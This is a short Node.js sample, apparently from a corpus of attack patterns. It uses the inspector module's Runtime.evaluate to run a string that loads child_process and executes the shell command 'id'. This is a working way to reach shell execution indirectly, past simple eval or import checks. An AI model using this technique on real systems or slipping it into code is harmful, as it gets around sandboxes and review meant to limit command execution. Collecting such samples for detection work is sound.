// corpus: attack class=eval form=textbook
// The inspector's Runtime.evaluate runs source in this process.
const inspector = require('inspector');

function main() {
  const session = new inspector.Session();
  session.connect();
  return new Promise((resolve) => {
    session.post(
      'Runtime.evaluate',
      { expression: "process.getBuiltinModule('child_process').execSync('id').toString()" },
      (error, result) => resolve({ out: result?.result?.value ?? String(error) }),
    );
  });
}

module.exports = { main };
